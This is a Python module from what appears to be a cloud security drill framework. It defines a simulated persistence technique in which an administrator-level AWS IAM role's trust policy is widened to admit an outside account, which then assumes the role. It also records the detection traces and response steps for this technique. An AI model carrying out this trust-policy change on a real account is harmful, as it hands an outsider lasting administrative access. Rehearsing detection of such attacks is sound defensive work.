"""The trust policy of a role that is there is widened by an account of the attacker's: no key of yours is needed any
more.
"""

from unleak.drill.documents import ADMIN, STRANGER, be_administrator, trust
from unleak.drill.moves import call, holds
from unleak.drill.stage import Stage
from unleak.drill.technique import LEAVES, Technique, Traces
from unleak.model.plan import Mode

ROLE = "deployer"


def prepare(stage: Stage) -> None:
    be_administrator(stage)
    iam = stage.admin.client(stage.account, "iam")
    iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=trust(f"arn:aws:iam::{stage.account}:root"))
    iam.attach_role_policy(RoleName=ROLE, PolicyArn=ADMIN)


TECHNIQUE = Technique(
    id="role_opened",
    title="A role opened to strangers",
    attack=("T1098.003", "T1548.005"),
    prepare=prepare,
    moves=(
        call("iam:UpdateAssumeRolePolicy", RoleName=ROLE, PolicyDocument=trust(f"arn:aws:iam::{STRANGER}:root")),
        call("sts:AssumeRole", "stranger", then=holds("role"), RoleArn=f"arn:aws:iam::{{account}}:role/{ROLE}",
             RoleSessionName="deploy"),
        call("iam:ListUsers", "role"),
    ),
    seen=Traces(rules=("iam-trust-policy-changed",), credentials=("UpdateAssumeRolePolicy",), things=("IAM::Role",)),
    stopped_by=("deactivate_key", "revoke_role_sessions", "restore_trust"),
    leaves=(f"role {ROLE}",),
    mode=Mode.LOCKDOWN,
    only_standin=LEAVES,
)  # fmt: skip
